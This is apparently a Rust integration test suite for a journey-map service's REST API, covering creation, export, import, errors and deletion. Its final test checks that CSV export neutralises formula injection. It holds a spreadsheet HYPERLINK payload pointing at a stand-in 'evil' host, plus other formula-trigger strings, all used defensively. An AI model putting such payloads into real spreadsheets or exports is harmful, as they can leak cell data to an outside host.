//! The REST API: maps created, listed, read, exported, analysed, imported and deleted over HTTP,
//! consistent with what live WebSocket clients see.

mod common;

use common::*;
use waymark_protocol::CloseCode;
use waymark_protocol::schema::{At, Editor, JourneyMap, read};
use yrs::Transact;

async fn create(server: &TestServer, body: &str) -> HttpResponse {
    http("POST", &server.http("/api/v1/maps"), Some(body)).await
}

#[tokio::test]
async fn a_map_created_from_a_template_is_listed_read_and_seen_live() {
    let server = TestServer::start().await;
    let templates = http("GET", &server.http("/api/v1/templates"), None)
        .await
        .json();
    let names: Vec<&str> = templates["templates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    for t in [
        "ecommerce-purchase",
        "saas-onboarding",
        "contact-center-support",
        "service-blueprint",
    ] {
        assert!(names.contains(&t), "{names:?}");
    }

    let res = create(&server, r#"{"id":"shop","template":"ecommerce-purchase"}"#).await;
    assert_eq!(res.status, 201, "{}", res.body);
    assert_eq!(res.header("location").as_deref(), Some("/api/v1/maps/shop"));
    assert_eq!(res.json()["websocket"], "/maps/shop");

    let got = http("GET", &server.http("/api/v1/maps/shop"), None).await;
    assert_eq!(got.status, 200);
    let v = got.json();
    assert_eq!(v["map"]["meta"]["title"], "E-commerce purchase");
    assert_eq!(v["warnings"].as_array().unwrap().len(), 0);
    let cards = v["map"]["cards"].as_array().unwrap().len();
    assert!(cards >= 20);

    let list = http("GET", &server.http("/api/v1/maps"), None).await.json();
    let entry = &list["maps"][0];
    assert_eq!(entry["id"], "shop");
    assert_eq!(entry["title"], "E-commerce purchase");
    assert_eq!(entry["kind"], "journey-map");
    assert!(entry["size"].as_u64().unwrap() > 1000);
    assert!(entry["updatedAt"].as_i64().unwrap() > 0);

    // A live editor sees the whole template, and its edits show up in the API.
    let client = server.connect("shop").await;
    let live = read(&client.doc().transact()).map;
    assert_eq!(live.cards.len(), cards);
    {
        let mut txn = client.doc().transact_mut();
        let mut ed = Editor::new(&mut txn);
        ed.add_card(&live.lanes[0].id, &live.steps[0].id, "Added live", At::Last)
            .unwrap();
    }
    let deadline = tokio::time::Instant::now() + WAIT;
    loop {
        let v = http("GET", &server.http("/api/v1/maps/shop"), None)
            .await
            .json();
        if v["map"]["cards"].as_array().unwrap().len() == cards + 1 {
            break;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the live edit never reached the API"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
}

#[tokio::test]
async fn maps_are_exported_in_every_format() {
    let server = TestServer::start().await;
    assert_eq!(
        create(
            &server,
            r#"{"id":"support","template":"contact-center-support"}"#
        )
        .await
        .status,
        201
    );
    let map: JourneyMap = serde_json::from_value(
        http("GET", &server.http("/api/v1/maps/support"), None)
            .await
            .json()["map"]
            .clone(),
    )
    .unwrap();

    let json = http(
        "GET",
        &server.http("/api/v1/maps/support/export/json"),
        None,
    )
    .await;
    assert_eq!(json.status, 200);
    assert!(
        json.header("content-type")
            .unwrap()
            .starts_with("application/json")
    );
    assert_eq!(
        json.header("content-disposition").as_deref(),
        Some("attachment; filename=\"support.json\"")
    );
    assert_eq!(serde_json::from_str::<JourneyMap>(&json.body).unwrap(), map);

    let csv = http("GET", &server.http("/api/v1/maps/support/export/csv"), None).await;
    assert!(csv.header("content-type").unwrap().starts_with("text/csv"));
    let rows = csv::Reader::from_reader(csv.body.as_bytes())
        .records()
        .count();
    assert_eq!(rows, map.cards.len());

    let md = http(
        "GET",
        &server.http("/api/v1/maps/support/export/markdown"),
        None,
    )
    .await;
    assert!(md.body.starts_with(&format!("# {}", map.meta.title)));
    let mermaid = http(
        "GET",
        &server.http("/api/v1/maps/support/export/mermaid"),
        None,
    )
    .await;
    assert!(mermaid.body.starts_with("journey\n"));

    let svg = http("GET", &server.http("/api/v1/maps/support/export/svg"), None).await;
    assert!(
        svg.header("content-type")
            .unwrap()
            .starts_with("image/svg+xml")
    );
    assert!(svg.body.starts_with("<svg") && svg.body.contains(&map.meta.title));
    for (format, content_type, magic) in [
        ("png", "image/png", &b"\x89PNG"[..]),
        ("pdf", "application/pdf", &b"%PDF-"[..]),
    ] {
        let (status, head, body) =
            http_bytes(&server.http(&format!("/api/v1/maps/support/export/{format}"))).await;
        assert_eq!(status, 200, "{format}");
        let head = head.to_ascii_lowercase();
        assert!(
            head.contains(&format!("content-type: {content_type}")),
            "{format}: {head}"
        );
        assert!(body.starts_with(magic), "{format}");
        assert!(body.len() > 5_000, "{format}: {} bytes", body.len());
    }
    // On paper: one sheet where the text stays ≥ 8 pt, several sheets of a PDF where it would not.
    let (status, head, body) =
        http_bytes(&server.http("/api/v1/maps/support/export/png?paper=a2")).await;
    assert_eq!(status, 200);
    assert!(head.contains("support-a2.png"), "{head}");
    assert_eq!(
        u32::from_be_bytes(body[16..20].try_into().unwrap()),
        (594.0f32 / 25.4 * 150.0).ceil() as u32,
        "A2 landscape at 150 dpi"
    );
    let (status, _, body) =
        http_bytes(&server.http("/api/v1/maps/support/export/pdf?paper=a3")).await;
    assert_eq!(status, 200);
    let sheets = String::from_utf8_lossy(&body).matches("/MediaBox").count();
    assert!(sheets > 1, "{sheets} sheets");
    let png = http(
        "GET",
        &server.http("/api/v1/maps/support/export/png?paper=a3"),
        None,
    )
    .await;
    assert_eq!(png.status, 422);
    assert_eq!(png.json()["error"], "poster_too_small");
    let message = png.json()["message"].as_str().unwrap().to_owned();
    assert!(
        message.contains("download the PDF") && message.contains("a2, a1, a0"),
        "{message}"
    );
    for query in ["png?paper=b5", "csv?paper=a1", "pdf?size=a1"] {
        let bad = http(
            "GET",
            &server.http(&format!("/api/v1/maps/support/export/{query}")),
            None,
        )
        .await;
        assert_eq!(bad.status, 400, "{query}");
        assert_eq!(bad.json()["error"], "invalid_query", "{query}");
    }

    let bad = http(
        "GET",
        &server.http("/api/v1/maps/support/export/docx"),
        None,
    )
    .await;
    assert_eq!(bad.status, 400);
    assert_eq!(bad.json()["error"], "unknown_format");
    assert!(bad.json()["message"].as_str().unwrap().contains("csv"));

    let insights = http("GET", &server.http("/api/v1/maps/support/insights"), None)
        .await
        .json();
    assert_eq!(insights["painPoints"][0]["severity"], 5);
    assert!(insights["metricsOffTarget"].as_array().unwrap().len() >= 2);
    assert!(insights["channelCoverage"]["counts"].is_array());
}

#[tokio::test]
async fn an_export_imports_as_an_identical_map() {
    let server = TestServer::start().await;
    assert_eq!(
        create(
            &server,
            r#"{"id":"blueprint","template":"service-blueprint"}"#
        )
        .await
        .status,
        201
    );
    let exported = http(
        "GET",
        &server.http("/api/v1/maps/blueprint/export/json"),
        None,
    )
    .await
    .body;
    let res = http(
        "POST",
        &server.http("/api/v1/maps/import?id=blueprint-copy"),
        Some(&exported),
    )
    .await;
    assert_eq!(res.status, 201, "{}", res.body);
    let copy = http("GET", &server.http("/api/v1/maps/blueprint-copy"), None)
        .await
        .json();
    let original = http("GET", &server.http("/api/v1/maps/blueprint"), None)
        .await
        .json();
    assert_eq!(copy["map"], original["map"]);
    // Importing onto an existing map is refused.
    let again = http(
        "POST",
        &server.http("/api/v1/maps/import?id=blueprint-copy"),
        Some(&exported),
    )
    .await;
    assert_eq!(again.status, 409);
    // A broken import says what is wrong.
    let broken = r#"{"schemaVersion":1,"meta":{"title":"x","description":"","kind":"journey-map","scenario":"","goals":"","owner":""},
        "personas":[],"stages":[{"id":"s","name":"A","description":"","rank":"V"},{"id":"s","name":"B","description":"","rank":"W"}],
        "steps":[],"lanes":[],"cards":[],"channels":[],"touchpoints":[],"metrics":[],"measurements":[],"links":[],"emotions":[]}"#;
    let res = http("POST", &server.http("/api/v1/maps/import"), Some(broken)).await;
    assert_eq!(res.status, 400);
    assert_eq!(res.json()["error"], "invalid_import");
    assert!(
        res.json()["message"]
            .as_str()
            .unwrap()
            .contains("appears twice")
    );
    let res = http(
        "POST",
        &server.http("/api/v1/maps/import"),
        Some("{\"not\": \"a map\"}"),
    )
    .await;
    assert_eq!(
        (res.status, res.json()["error"].as_str()),
        (400, Some("invalid_body"))
    );
}

#[tokio::test]
async fn bad_requests_get_clear_errors() {
    let server = TestServer::start().await;
    let blank = create(&server, r#"{"title":"Blank","kind":"experience-map"}"#).await;
    assert_eq!(blank.status, 201, "{}", blank.body);
    let id = blank.json()["id"].as_str().unwrap().to_owned();
    let got = http("GET", &server.http(&format!("/api/v1/maps/{id}")), None)
        .await
        .json();
    assert_eq!(got["map"]["meta"]["kind"], "experience-map");

    for (body, status, code) in [
        (r#"{"template":"wedding-planner"}"#, 400, "unknown_template"),
        (r#"{"kind":"mind-map"}"#, 400, "invalid_kind"),
        (r#"{"id":"-bad id"}"#, 400, "invalid_map_id"),
        (r#"{"color":"red"}"#, 400, "invalid_body"),
        (r#"{"title": "#, 400, "invalid_body"),
        (&format!(r#"{{"id":"{id}"}}"#), 409, "map_exists"),
    ] {
        let res = create(&server, body).await;
        assert_eq!(res.status, status, "{body}: {}", res.body);
        assert_eq!(res.json()["error"], code, "{body}");
        assert!(!res.json()["message"].as_str().unwrap().is_empty());
    }
    let res = create(&server, r#"{"template":"wedding-planner"}"#).await;
    assert!(
        res.json()["message"]
            .as_str()
            .unwrap()
            .contains("saas-onboarding")
    );
    for path in [
        "/api/v1/maps/nothing-here",
        "/api/v1/maps/nothing-here/export/csv",
        "/api/v1/maps/nothing-here/insights",
    ] {
        let res = http("GET", &server.http(path), None).await;
        assert_eq!(
            (res.status, res.json()["error"].as_str()),
            (404, Some("map_not_found")),
            "{path}"
        );
    }
    let res = http("DELETE", &server.http("/api/v1/maps/nothing-here"), None).await;
    assert_eq!(res.status, 404);
}

#[tokio::test]
async fn deleting_a_map_closes_its_editors_and_removes_it() {
    let server = TestServer::start().await;
    assert_eq!(
        create(&server, r#"{"id":"doomed","template":"saas-onboarding"}"#)
            .await
            .status,
        201
    );
    let editor = server.connect("doomed").await;
    let res = http("DELETE", &server.http("/api/v1/maps/doomed"), None).await;
    assert_eq!(res.status, 204, "{}", res.body);
    let closed = editor
        .wait_closed(WAIT)
        .await
        .unwrap()
        .expect("close frame");
    assert_eq!(closed.code, CloseCode::MapDeleted.code());
    assert_eq!(
        http("GET", &server.http("/api/v1/maps/doomed"), None)
            .await
            .status,
        404
    );
    let list = http("GET", &server.http("/api/v1/maps"), None).await.json();
    assert!(
        list["maps"]
            .as_array()
            .unwrap()
            .iter()
            .all(|m| m["id"] != "doomed")
    );
    // The id can be used again, for a new map.
    assert_eq!(create(&server, r#"{"id":"doomed"}"#).await.status, 201);
}

/// A card's text that a spreadsheet would run as a formula arrives in the CSV export as text: the
/// cell starts with `'`, which spreadsheets hide, and keeps every character.
#[tokio::test]
async fn formula_text_in_a_csv_export_is_inert() {
    let server = TestServer::start().await;
    let created = http(
        "POST",
        &server.http("/api/v1/maps"),
        Some(r#"{"id": "sheet", "template": "ecommerce-purchase"}"#),
    )
    .await;
    assert_eq!(created.status, 201, "{}", created.body);
    let editor = server.connect("sheet").await;
    let texts = [
        "=HYPERLINK(\"http://evil/\"&A1,\"x\")",
        "+SUM(1,2)",
        "-2+3",
        "@cmd",
        "\tTAB",
        "\rCR",
        "plain text",
    ];
    let ids: Vec<String> = editor
        .map()
        .map
        .cards
        .iter()
        .take(texts.len())
        .map(|c| c.id.clone())
        .collect();
    editor.edit(|ed| {
        for (id, text) in ids.iter().zip(texts) {
            ed.set_card_text(id, text).unwrap();
        }
    });
    let deadline = tokio::time::Instant::now() + WAIT;
    let body = loop {
        let csv = http("GET", &server.http("/api/v1/maps/sheet/export/csv"), None).await;
        if csv.body.contains("plain text") {
            break csv.body;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the edit never reached the export"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    };
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let text_column = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "text")
        .expect("a text column");
    let cells: std::collections::HashMap<String, String> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].to_owned(), r[text_column].to_owned())
        })
        .collect();
    for (id, text) in ids.iter().zip(texts) {
        let cell = &cells[id];
        if text == "plain text" {
            assert_eq!(cell, text);
        } else {
            assert_eq!(
                cell,
                &format!("'{text}"),
                "{text:?} must not start a formula"
            );
        }
    }
}
